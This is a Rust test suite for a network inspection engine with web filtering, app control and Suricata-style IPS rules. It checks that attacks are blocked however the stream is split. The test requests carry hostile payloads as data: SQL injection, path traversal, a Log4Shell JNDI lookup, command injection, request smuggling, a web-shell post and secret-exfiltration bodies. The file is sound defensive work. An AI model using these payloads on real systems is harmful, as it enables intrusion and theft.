//! Tests of the per-flow inspector over HTTP/1.1 and raw streams.

use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;

use tlsinspect_pipeline::api::{
    Alert, ConnAction, Direction, Emit, FlowMeta, InspectReport, Inspector,
};
use tlsinspect_pipeline::hostglob::HostGlob;

use crate::inspect::{
    AppControl, AppRule, AppTable, Engines, Mode, Ruleset, Vars, Verdict, WebFilter, WebRule,
};

pub(crate) fn meta(alpn: Option<&[u8]>) -> FlowMeta {
    FlowMeta {
        flow_id: 1,
        src: "192.0.2.10:40000".parse::<SocketAddr>().unwrap(),
        dest: "203.0.113.5:443".parse::<SocketAddr>().unwrap(),
        policy_id: "p1".into(),
        scope_id: "s1".into(),
        sni: Some("www.example.com".into()),
        alpn: alpn.map(|a| a.into()),
        tunnel: None,
    }
}

pub(crate) fn default_rules() -> Arc<Ruleset> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("configs/rules/default.rules");
    let (set, rep) = Ruleset::load_files(&[path], &Vars::default());
    assert!(rep.problems().is_empty(), "{:?}", rep.problems());
    Arc::new(set)
}

pub(crate) fn engines(mode: Mode, extra_rules: &str) -> Engines {
    let apps =
        AppTable::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("configs/apps.toml")).unwrap();
    let mut rules = Arc::try_unwrap(default_rules()).unwrap();
    if !extra_rules.is_empty() {
        let (extra, rep) = Ruleset::from_text(extra_rules, "extra", &Vars::default());
        assert!(rep.problems().is_empty(), "{:?}", rep.problems());
        let mut all: Vec<_> = rules.rules().to_vec();
        all.extend(extra.rules().iter().cloned());
        rules = Ruleset::compile(all, &mut Default::default());
    }
    Engines::new(
        WebFilter::new(vec![WebRule {
            host: HostGlob::new("*.example.com").unwrap(),
            path: "/upload/*".into(),
            methods: vec!["POST".into(), "PUT".into()],
            verdict: Verdict::Deny,
        }]),
        apps,
        AppControl::new(vec![AppRule {
            app: "github".into(),
            action: "upload".into(),
            verdict: Verdict::Deny,
        }]),
        Arc::new(rules),
        mode,
    )
}

/// (method, host, url, status, app) of one logged transaction.
pub(crate) type TxnRow = (
    String,
    String,
    String,
    Option<u16>,
    Option<(String, String)>,
);
/// How a script step is cut into pieces: (step index, bytes) -> pieces.
pub(crate) type Cut<'a> = &'a dyn Fn(usize, &[u8]) -> Vec<Vec<u8>>;

/// Everything a flow produced.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Outcome {
    pub to_server: Vec<u8>,
    pub to_client: Vec<u8>,
    pub action: ConnAction,
    pub alerts: Vec<Alert>,
    pub http: Vec<TxnRow>,
    pub app: Option<String>,
}

fn rank(a: ConnAction) -> u8 {
    match a {
        ConnAction::Continue => 0,
        ConnAction::Close => 1,
        ConnAction::Reset => 2,
    }
}

/// Runs `script`, feeding each step in the pieces `cut` makes of it.
pub(crate) fn drive(
    e: &Engines,
    alpn: Option<&[u8]>,
    script: &[(Direction, Vec<u8>)],
    cut: Cut<'_>,
) -> Outcome {
    let mut f = e.new_flow(&meta(alpn));
    let mut o = Outcome {
        to_server: Vec::new(),
        to_client: Vec::new(),
        action: ConnAction::Continue,
        alerts: Vec::new(),
        http: Vec::new(),
        app: None,
    };
    for (i, (dir, bytes)) in script.iter().enumerate() {
        for piece in cut(i, bytes) {
            let mut out = Emit::default();
            f.on_data(*dir, &piece, &mut out);
            o.to_server.extend_from_slice(&out.to_server);
            o.to_client.extend_from_slice(&out.to_client);
            if rank(out.action) > rank(o.action) {
                o.action = out.action;
            }
            o.alerts.extend(f.take_alerts());
        }
    }
    let rep: InspectReport = f.finish();
    assert_eq!(rep.alerts, o.alerts, "report alerts = alerts taken");
    o.http = rep
        .http
        .into_iter()
        .map(|t| (t.method, t.host, t.url, t.status, t.app))
        .collect();
    o.app = rep.app;
    o
}

pub(crate) fn whole(_: usize, b: &[u8]) -> Vec<Vec<u8>> {
    vec![b.to_vec()]
}

/// Runs the script whole, then with every step split at every byte and fed
/// byte by byte; all runs must produce the same outcome.
pub(crate) fn check_all_splits(
    e: &Engines,
    alpn: Option<&[u8]>,
    script: &[(Direction, Vec<u8>)],
) -> Outcome {
    let base = drive(e, alpn, script, &whole);
    for (step, (_, bytes)) in script.iter().enumerate() {
        for at in 0..=bytes.len() {
            let split = |i: usize, b: &[u8]| {
                if i == step {
                    vec![b[..at].to_vec(), b[at..].to_vec()]
                } else {
                    vec![b.to_vec()]
                }
            };
            assert_eq!(
                drive(e, alpn, script, &split),
                base,
                "step {step} split at {at}"
            );
        }
    }
    let bytewise = |_: usize, b: &[u8]| b.iter().map(|x| vec![*x]).collect();
    assert_eq!(drive(e, alpn, script, &bytewise), base, "byte by byte");
    base
}

/// Runs every split of every step and checks each outcome with `check`.
pub(crate) fn check_splits_with(
    e: &Engines,
    alpn: Option<&[u8]>,
    script: &[(Direction, Vec<u8>)],
    check: &dyn Fn(&Outcome),
) {
    check(&drive(e, alpn, script, &whole));
    for (step, (_, bytes)) in script.iter().enumerate() {
        for at in 0..=bytes.len() {
            let split = |i: usize, b: &[u8]| {
                if i == step {
                    vec![b[..at].to_vec(), b[at..].to_vec()]
                } else {
                    vec![b.to_vec()]
                }
            };
            check(&drive(e, alpn, script, &split));
        }
    }
    let bytewise = |_: usize, b: &[u8]| b.iter().map(|x| vec![*x]).collect();
    check(&drive(e, alpn, script, &bytewise));
}

fn c(s: &[u8]) -> (Direction, Vec<u8>) {
    (Direction::ToServer, s.to_vec())
}
fn s(s: &[u8]) -> (Direction, Vec<u8>) {
    (Direction::ToClient, s.to_vec())
}

const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello";

#[test]
fn allowed_requests_pass_unchanged_and_are_reported() {
    let e = engines(Mode::Prevent, "");
    let req = b"GET /rust-lang/rust HTTP/1.1\r\nHost: github.com\r\nUser-Agent: curl/8\r\n\r\n";
    let o = check_all_splits(&e, None, &[c(req), s(OK)]);
    assert_eq!(o.to_server, req);
    assert_eq!(o.to_client, OK);
    assert_eq!(o.action, ConnAction::Continue);
    assert!(o.alerts.is_empty(), "{:?}", o.alerts);
    assert_eq!(
        o.http,
        vec![(
            "GET".into(),
            "github.com".into(),
            "/rust-lang/rust".into(),
            Some(200),
            Some(("github".into(), "browse".into()))
        )]
    );
    assert_eq!(o.app.as_deref(), Some("github"));
}

#[test]
fn webfilter_deny_swallows_request_and_body_keeps_connection() {
    let e = engines(Mode::Prevent, "");
    let denied = b"POST /upload/a.bin HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 11\r\n\r\nsecret-data";
    let next = b"GET /upload/a.bin HTTP/1.1\r\nHost: www.example.com\r\n\r\n";
    let mut both = denied.to_vec();
    both.extend_from_slice(next);
    let o = check_all_splits(&e, None, &[c(&both), s(OK)]);
    assert_eq!(
        o.to_server, next,
        "the denied request and its body never reach the server"
    );
    assert!(o.to_client.starts_with(b"HTTP/1.1 403 Forbidden\r\n"));
    assert!(
        o.to_client.ends_with(OK),
        "the next response follows the block page"
    );
    assert!(!o.to_client.windows(17).any(|w| w == b"Connection: close"));
    assert_eq!(o.action, ConnAction::Continue);
    assert_eq!(o.alerts.len(), 1);
    assert_eq!(
        (
            o.alerts[0].engine,
            o.alerts[0].sid,
            o.alerts[0].action.as_str()
        ),
        ("webfilter", 0, "deny")
    );
    assert_eq!(o.http[0].3, Some(403));
    assert_eq!(o.http[1].3, Some(200));
}

#[test]
fn block_page_waits_for_earlier_pipelined_response() {
    let e = engines(Mode::Prevent, "");
    let first = b"GET /a HTTP/1.1\r\nHost: www.example.com\r\n\r\n";
    let denied = b"PUT /upload/x HTTP/1.1\r\nHost: www.example.com\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n";
    let mut both = first.to_vec();
    both.extend_from_slice(denied);
    let base = drive(&e, None, &[c(&both)], &whole);
    assert_eq!(base.to_server, first);
    assert!(
        base.to_client.is_empty(),
        "403 must not overtake the first response"
    );
    let o = check_all_splits(&e, None, &[c(&both), s(OK)]);
    assert!(o.to_client.starts_with(OK));
    assert!(o.to_client[OK.len()..].starts_with(b"HTTP/1.1 403 Forbidden"));
}

#[test]
fn app_control_blocks_git_push_not_browsing() {
    let e = engines(Mode::Prevent, "");
    let push = b"POST /acme/tools.git/git-receive-pack HTTP/1.1\r\nHost: github.com\r\nContent-Type: application/x-git-receive-pack-request\r\nContent-Length: 4\r\n\r\n0000";
    let browse = b"GET /acme/tools HTTP/1.1\r\nHost: github.com\r\n\r\n";
    let o = check_all_splits(&e, None, &[c(push), c(browse)]);
    assert_eq!(o.to_server, browse);
    assert!(o.to_client.starts_with(b"HTTP/1.1 403"));
    assert_eq!(o.alerts[0].engine, "appcontrol");
    assert!(
        o.alerts[0].msg.contains("github/upload"),
        "{}",
        o.alerts[0].msg
    );
    assert_eq!(o.http[0].4, Some(("github".into(), "upload".into())));
    assert_eq!(o.http[1].4, Some(("github".into(), "browse".into())));
}

#[test]
fn ips_prevent_drops_attacks_before_the_server() {
    let e = engines(Mode::Prevent, "");
    for (req, sid) in [
        (&b"GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1\r\nHost: shop.test\r\n\r\n"[..], 1000010u64),
        (b"GET /static/..%2f..%2fetc/passwd HTTP/1.1\r\nHost: shop.test\r\n\r\n", 1000001),
        (b"GET / HTTP/1.1\r\nHost: shop.test\r\nX-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n\r\n", 1000031),
        (b"GET /ping?host=1.1.1.1;cat%20/etc/hosts HTTP/1.1\r\nHost: shop.test\r\n\r\n", 1000020),
        (b"GET /index.php HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.1; Windows NT)\r\n\r\n", 1000043),
        (b"POST /submit.php?id=12345 HTTP/1.1\r\nHost: cdn.test\r\nContent-Length: 4\r\n\r\nabcd", 1000040),
        (b"PUT /backup HTTP/1.1\r\nHost: bucket.test\r\nContent-Length: 54\r\n\r\n{\"type\": \"service_account\", \"private_key\": \"-----x\"}xx", 1000057),
        (b"POST /c HTTP/1.1\r\nHost: a.test\r\nContent-Length: 26\r\n\r\nk=ASIAY34FZKBOKMUTVV7A&z=1", 1000061),
    ] {
        let o = check_all_splits(&e, None, &[c(req)]);
        assert!(o.to_server.is_empty(), "{:?}", String::from_utf8_lossy(req));
        assert_eq!(o.action, ConnAction::Reset);
        assert!(o.alerts.iter().any(|a| a.sid == sid && a.action == "drop" && a.engine == "ips"), "{sid}: {:?}", o.alerts);
    }
}

#[test]
fn ips_detect_mode_only_alerts() {
    let e = engines(Mode::Detect, "");
    let req = b"GET /item?id=1'%20or%201=1-- HTTP/1.1\r\nHost: shop.test\r\n\r\n";
    let o = check_all_splits(&e, None, &[c(req), s(OK)]);
    assert_eq!(o.to_server, req);
    assert_eq!(o.to_client, OK);
    assert_eq!(o.action, ConnAction::Continue);
    assert!(
        o.alerts
            .iter()
            .any(|a| a.sid == 1000012 && a.action == "alert"),
        "{:?}",
        o.alerts
    );
}

#[test]
fn exfiltration_uploads_are_dropped_with_luhn_check() {
    let e = engines(Mode::Prevent, "");
    let body = b"name=a&card=4111 1111 1111 1111&x=1";
    let mut req = format!(
        "POST /checkout HTTP/1.1\r\nHost: shop.test\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(body);
    let o = check_all_splits(&e, None, &[c(&req)]);
    assert!(o.to_server.is_empty());
    assert!(o
        .alerts
        .iter()
        .any(|a| a.sid == 1000050 && a.action == "drop"));

    let bad = b"name=a&card=4111 1111 1111 1112&x=1";
    let mut req = format!(
        "POST /checkout HTTP/1.1\r\nHost: shop.test\r\nContent-Length: {}\r\n\r\n",
        bad.len()
    )
    .into_bytes();
    req.extend_from_slice(bad);
    let o = check_all_splits(&e, None, &[c(&req)]);
    assert_eq!(o.to_server, req, "a number failing Luhn is not a card");
    assert!(o.alerts.is_empty());

    // A PEM key in a chunked body, the marker split across chunks.
    let req = b"POST /paste HTTP/1.1\r\nHost: paste.test\r\nTransfer-Encoding: chunked\r\n\r\n\
13\r\n-----BEGIN RSA PRIV\r\n18\r\nATE KEY-----\nMIIEowIBAAK\r\n0\r\n\r\n";
    let o = check_all_splits(&e, None, &[c(req)]);
    assert!(o.to_server.is_empty());
    assert!(o.alerts.iter().any(|a| a.sid == 1000052), "{:?}", o.alerts);
}

#[test]
fn reject_answers_403_and_closes() {
    let e = engines(
        Mode::Prevent,
        r#"reject http any any -> any any (msg:"no admin"; flow:to_server; http.uri; content:"/admin"; sid:5000001; rev:1;)"#,
    );
    let req = b"GET /admin/panel HTTP/1.1\r\nHost: shop.test\r\n\r\n";
    let o = check_all_splits(&e, None, &[c(req)]);
    assert!(o.to_server.is_empty());
    assert!(o.to_client.starts_with(b"HTTP/1.1 403 Forbidden"));
    assert_eq!(o.action, ConnAction::Close);
    assert_eq!(o.alerts[0].action, "reject");
}

#[test]
fn expect_continue_is_answered_and_stripped() {
    let e = engines(Mode::Prevent, "");
    let req = b"PUT /data HTTP/1.1\r\nHost: shop.test\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n";
    let o = drive(&e, None, &[c(req), c(b"abc")], &whole);
    assert_eq!(o.to_client, b"HTTP/1.1 100 Continue\r\n\r\n");
    assert_eq!(
        o.to_server,
        b"PUT /data HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 3\r\n\r\nabc"
    );
}

#[test]
fn large_bodies_are_released_at_the_limit_and_counted() {
    let e = engines(Mode::Prevent, "");
    let body = vec![b'x'; 300 * 1024];
    let mut req = format!(
        "POST /big HTTP/1.1\r\nHost: shop.test\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(&body);
    let o = drive(&e, None, &[c(&req)], &|_, b| {
        b.chunks(16 * 1024).map(|x| x.to_vec()).collect()
    });
    assert_eq!(o.to_server, req);
    assert_eq!(o.alerts.len(), 1);
    assert_eq!(o.alerts[0].engine, "http");
}

#[test]
fn oversized_or_malformed_heads_are_refused() {
    let e = engines(Mode::Prevent, "");
    let mut req = b"GET / HTTP/1.1\r\nX-Big: ".to_vec();
    req.extend(std::iter::repeat_n(b'a', 70 * 1024));
    let o = drive(&e, None, &[c(&req)], &whole);
    assert!(o.to_server.is_empty());
    assert!(o.to_client.starts_with(b"HTTP/1.1 400 Bad Request"));
    assert_eq!(o.action, ConnAction::Close);
    let o = check_all_splits(&e, None, &[c(b"GET / HTTP/1.1\r\nBad Header\r\n\r\n")]);
    assert!(o.to_server.is_empty());
    assert!(o.to_client.starts_with(b"HTTP/1.1 400"));
}

#[test]
fn response_rules_and_statuses() {
    let e = engines(Mode::Prevent, "");
    let req = b"GET /q?id=2 HTTP/1.1\r\nHost: shop.test\r\n\r\n";
    let resp = b"HTTP/1.1 500 Internal Server Error\r\nTransfer-Encoding: chunked\r\n\r\n10\r\nYou have an erro\r\n19\r\nr in your SQL syntax near\r\n0\r\n\r\n";
    let o = check_all_splits(&e, None, &[c(req), s(resp)]);
    assert_eq!(o.to_client, resp);
    assert_eq!(
        o.alerts.len(),
        1,
        "one alert per transaction: {:?}",
        o.alerts
    );
    assert_eq!(o.alerts[0].sid, 1000070);
    assert_eq!(o.http[0].3, Some(500));
}

#[test]
fn raw_streams_get_raw_rules_only() {
    let e = engines(
        Mode::Prevent,
        r#"drop tcp any any -> any any (msg:"raw drop"; flow:to_server; content:"EVIL-CMD"; sid:5000002; rev:1;)"#,
    );
    let data = b"\x00\x01binary hello -----BEGIN EC PRIVATE KEY-----\nAAA";
    let o = check_all_splits(&e, None, &[c(data), s(b"\x05server bytes")]);
    assert_eq!(o.to_server, data);
    assert_eq!(o.to_client, b"\x05server bytes");
    assert_eq!(o.alerts.len(), 1);
    assert_eq!(
        (o.alerts[0].sid, o.alerts[0].action.as_str()),
        (1000053, "alert")
    );
    // Bytes before the chunk that completes the match may already be out;
    // the match itself never is, whatever the split.
    check_splits_with(&e, None, &[c(b"SSH-2.0-x\r\n"), c(b"xxEVIL-CMDxx")], &|o| {
        assert!(!o.to_server.windows(8).any(|w| w == b"EVIL-CMD"));
        assert!(o.to_server.starts_with(b"SSH-2.0-x\r\n"));
        assert_eq!(o.action, ConnAction::Reset);
        assert_eq!(o.alerts.len(), 1);
    });
}

#[test]
fn pass_rule_silences_the_flow() {
    let e = engines(
        Mode::Prevent,
        r#"pass http any any -> any any (msg:"trusted scanner"; flow:to_server; http.user_agent; content:"TrustedScan"; sid:5000003; rev:1;)"#,
    );
    let req = b"GET /x?id=1%20union%20select%201 HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: TrustedScan/1\r\n\r\n";
    let o = check_all_splits(&e, None, &[c(req)]);
    assert_eq!(o.to_server, req);
    assert_eq!(o.alerts.len(), 1);
    assert_eq!(o.alerts[0].action, "pass");
}

#[test]
fn denied_upgrade_never_tunnels() {
    let req = b"GET /upload/ws HTTP/1.1\r\nHost: www.example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n";
    let mut all = req.to_vec();
    all.extend_from_slice(b"\x81\x05hello");
    let e2 = Engines::new(
        WebFilter::new(vec![WebRule {
            host: HostGlob::new("*").unwrap(),
            path: "/upload/*".into(),
            methods: vec![],
            verdict: Verdict::Deny,
        }]),
        AppTable::default(),
        AppControl::default(),
        Arc::new(Ruleset::default()),
        Mode::Prevent,
    );
    let o = check_all_splits(&e2, None, &[c(&all)]);
    assert!(o.to_server.is_empty());
    assert!(o.to_client.starts_with(b"HTTP/1.1 403"));
    assert_eq!(o.action, ConnAction::Close);
    // An allowed upgrade tunnels after the 101.
    let ok = b"GET /ws HTTP/1.1\r\nHost: www.example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n\x81\x05hello";
    let resp = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x02hi";
    let o = check_all_splits(&e2, None, &[c(ok), s(resp)]);
    assert_eq!(o.to_server, ok);
    assert_eq!(o.to_client, resp);
    assert_eq!(o.http[0].3, Some(101));
}

// ------------------------------------------------- Suricata keyword families

#[test]
fn file_data_and_head_buffers_match_however_the_stream_is_split() {
    let e = engines(
        Mode::Detect,
        r#"alert http any any -> any any (msg:"body start"; flow:established,to_client; file.data; content:"<html><!--kit"; startswith; fast_pattern; content:"eval("; distance:0; sid:6000001; rev:1;)
alert http any any -> any any (msg:"body end"; flow:to_client; file_data; content:"</html>"; endswith; http.server; content:"nginx"; startswith; sid:6000002; rev:1;)
alert http any any -> any any (msg:"req heads"; flow:to_server; http.header_names; content:"|0d 0a|X-Kit|0d 0a|"; http.cookie; content:"sess=42"; http.content_type; content:"text/x"; bsize:6; http.start; content:"POST /k HTTP/1.1|0d 0a|"; startswith; http.request_line; content:"POST /k HTTP/1.1"; bsize:16; http.protocol; content:"HTTP/1.1"; sid:6000003; rev:1;)
alert http any any -> any any (msg:"resp heads"; flow:to_client; http.stat_msg; content:"OK"; http.response_line; content:"HTTP/1.1 200 OK"; http.content_type; content:"text/html"; http.header; content:"Server|3a| nginx"; sid:6000004; rev:1;)
alert http any any -> any any (msg:"body depth miss"; flow:to_client; file.data; content:"eval("; depth:8; sid:6000005; rev:1;)"#,
    );
    let req = b"POST /k HTTP/1.1\r\nHost: a.example\r\nX-Kit: 1\r\nCookie: sess=42\r\nContent-Type: text/x\r\nContent-Length: 2\r\n\r\nhi";
    let resp = b"HTTP/1.1 200 OK\r\nServer: nginx/1.22\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n9\r\n<html><!-\r\n13\r\n-kit x=eval(1)</htm\r\n2\r\nl>\r\n0\r\n\r\n";
    let o = check_all_splits(&e, None, &[c(req), s(resp)]);
    assert_eq!(o.to_client, resp);
    let mut sids: Vec<u64> = o.alerts.iter().map(|a| a.sid).collect();
    sids.sort();
    assert_eq!(sids, [6000001, 6000002, 6000003, 6000004], "{:?}", o.alerts);
}

#[test]
fn flowbits_pair_alerts_only_when_the_request_set_the_bit() {
    let rules = r#"alert http any any -> any any (msg:"set"; flow:to_server; http.uri; content:"/gate.php"; flowbits:set,et.gate; flowbits:noalert; sid:6000010; rev:1;)
alert http any any -> any any (msg:"checked"; flow:to_client; flowbits:isset,et.gate; file.data; content:"payload"; sid:6000011; rev:1;)
alert http any any -> any any (msg:"not set"; flow:to_client; flowbits:isnotset,et.gate; file.data; content:"payload"; sid:6000012; rev:1;)"#;
    let e = engines(Mode::Detect, rules);
    let resp = b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\npayload";
    let o = check_all_splits(
        &e,
        None,
        &[c(b"GET /gate.php HTTP/1.1\r\nHost: x\r\n\r\n"), s(resp)],
    );
    let sids: Vec<u64> = o.alerts.iter().map(|a| a.sid).collect();
    assert_eq!(sids, [6000011], "noalert setter is silent: {:?}", o.alerts);
    let o = check_all_splits(
        &e,
        None,
        &[c(b"GET /other HTTP/1.1\r\nHost: x\r\n\r\n"), s(resp)],
    );
    let sids: Vec<u64> = o.alerts.iter().map(|a| a.sid).collect();
    assert_eq!(sids, [6000012]);
}

#[test]
fn threshold_limit_caps_alerts_across_flows() {
    let e = engines(
        Mode::Prevent,
        r#"drop http any any -> any any (msg:"limited"; flow:to_server; http.uri; content:"/probe"; threshold:type limit, track by_src, count 2, seconds 300; sid:6000020; rev:1;)"#,
    );
    let req = b"GET /probe HTTP/1.1\r\nHost: x\r\n\r\n";
    let mut alerts = 0;
    let mut resets = 0;
    for _ in 0..5 {
        let o = drive(&e, None, &[c(req)], &whole);
        alerts += o.alerts.iter().filter(|a| a.sid == 6000020).count();
        resets += usize::from(o.action == ConnAction::Reset);
    }
    assert_eq!(alerts, 2, "two alerts per source in the window");
    // A suppressed match neither alerts nor acts (as Suricata's thresholded drop).
    assert_eq!(resets, 2);
}

#[test]
fn raw_rules_stop_at_the_stream_depth() {
    let e = engines(
        Mode::Detect,
        r#"alert tcp any any -> any any (msg:"deep"; flow:to_client; content:"NEEDLE-IN-STREAM"; sid:6000030; rev:1;)"#,
    );
    let depth = crate::inspect::EngineLimits::default().stream_depth;
    for (at, fires) in [(depth - 16, true), (depth - 15, false)] {
        let mut data = vec![b'.'; at];
        data.extend_from_slice(b"NEEDLE-IN-STREAM");
        let o = drive(&e, None, &[c(b"\x00hello"), s(&data)], &|_, b| {
            b.chunks(16 * 1024).map(<[u8]>::to_vec).collect()
        });
        assert_eq!(o.to_client.len(), data.len());
        assert_eq!(o.alerts.iter().any(|a| a.sid == 6000030), fires, "at {at}");
    }
}

#[test]
fn raw_content_beside_http_buffers_matches_the_message_as_received() {
    // ET's shape: stream content spanning the end of the head and the
    // start of the body, beside http.method/http.uri; and a response rule
    // with raw content beside http.stat_code.
    let e = engines(
        Mode::Detect,
        r#"alert http any any -> any any (msg:"c99 post"; flow:established,to_server; content:"|0d 0a 0d 0a|act="; fast_pattern; http.method; content:"POST"; http.uri; content:"/shell.php"; sid:6000040; rev:1;)
alert http any any -> any any (msg:"raw resp"; flow:established,to_client; content:"X-Kit|3a 20|"; content:"kitbody"; distance:0; http.stat_code; content:"200"; sid:6000041; rev:1;)"#,
    );
    let post = |uri: &str, body: &str| {
        format!(
            "POST {uri} HTTP/1.1\r\nHost: a.example\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    };
    let resp = b"HTTP/1.1 200 OK\r\nX-Kit: 1\r\nContent-Length: 7\r\n\r\nkitbody";
    let sids = |o: &Outcome| {
        let mut v: Vec<u64> = o.alerts.iter().map(|a| a.sid).collect();
        v.sort();
        v
    };
    let o = check_all_splits(&e, None, &[c(&post("/shell.php", "act=ls")), s(resp)]);
    assert_eq!(sids(&o), [6000040, 6000041], "{:?}", o.alerts);
    // The raw content must be there, and the http buffers must agree.
    let o = check_all_splits(&e, None, &[c(&post("/shell.php", "cmd=ls")), s(resp)]);
    assert_eq!(sids(&o), [6000041]);
    let o = check_all_splits(&e, None, &[c(&post("/other.php", "act=ls")), s(resp)]);
    assert_eq!(sids(&o), [6000041]);
    let o = check_all_splits(
        &e,
        None,
        &[
            c(&post("/shell.php", "act=ls")),
            s(b"HTTP/1.1 404 Not Found\r\nX-Kit: 1\r\nContent-Length: 7\r\n\r\nkitbody"),
        ],
    );
    assert_eq!(sids(&o), [6000040]);
}

#[test]
fn app_layer_event_invalid_transfer_encoding_in_request() {
    // ET's CVE-2023-46747 shape: the event, then raw content of the
    // request as sent (head and body).
    let e = engines(
        Mode::Detect,
        r#"alert http any any -> any any (msg:"bad te smuggling"; flow:established,to_server; app-layer-event:http.invalid_transfer_encoding_value_in_request; content:"|0d 0a 00 08|HTTP"; content:"/tmui/"; distance:0; sid:6000050; rev:1;)"#,
    );
    let req = |te: &str, body: &[u8]| {
        let mut r = format!(
            "POST /tmui/login.jsp HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: {te}\r\nContent-Length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        r.extend_from_slice(body);
        r
    };
    let body = b"\x00\x08HTTP/1.1\x00\x12/tmui/Control/form\x00";
    let resp = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    let fired = |te: &str, body: &[u8]| {
        let o = check_all_splits(&e, None, &[c(&req(te, body)), s(resp)]);
        o.alerts.iter().any(|a| a.sid == 6000050)
    };
    assert!(fired("xchunked", body));
    assert!(fired("gzip", body));
    // No event: chunked is among the codings (framing as chunked is then
    // another matter); and the raw content must still be there.
    let chunked = b"1f\r\n\x00\x08HTTP/1.1\x00\x12/tmui/Control/form\x00\r\n0\r\n\r\n";
    let chunked_req = [
        &b"POST /tmui/login.jsp HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n"
            [..],
        &chunked[..],
    ]
    .concat();
    let o = check_all_splits(&e, None, &[c(&chunked_req), s(resp)]);
    assert_eq!(o.to_server, chunked_req, "the chunked request went through");
    assert!(!o.alerts.iter().any(|a| a.sid == 6000050), "{:?}", o.alerts);
    assert!(!fired("xchunked", b"no ajp here"));
}

#[test]
fn stream_size_counts_the_flow_and_dsize_the_chunk() {
    let e = engines(
        Mode::Detect,
        r#"alert tcp any any -> any any (msg:"late cmd"; flow:to_server; content:"CMD"; stream_size:server,>,10; sid:6000050; rev:1;)
alert tcp any any -> any any (msg:"short ping"; flow:to_server; dsize:<8; content:"PING"; sid:6000051; rev:1;)"#,
    );
    let fired = |o: &Outcome, sid: u64| o.alerts.iter().any(|a| a.sid == sid);
    // The server has sent 14 bytes before the command: more than 10.
    let o = drive(
        &e,
        None,
        &[c(b"\x00hi"), s(b"\x05server bytes!"), c(b"CMD")],
        &whole,
    );
    assert!(fired(&o, 6000050));
    // Only 5: the same command does not fire.
    let o = drive(&e, None, &[c(b"\x00hi"), s(b"\x05abcd"), c(b"CMD")], &whole);
    assert!(!fired(&o, 6000050));
    // dsize is the size of the chunk inspected: a 4-byte chunk, not a
    // 20-byte one, whatever came before it.
    let o = drive(&e, None, &[c(b"\x00hello there"), c(b"PING")], &whole);
    assert!(fired(&o, 6000051));
    let o = drive(&e, None, &[c(b"\x00hi"), c(b"PING and more bytes")], &whole);
    assert!(!fired(&o, 6000051));
}
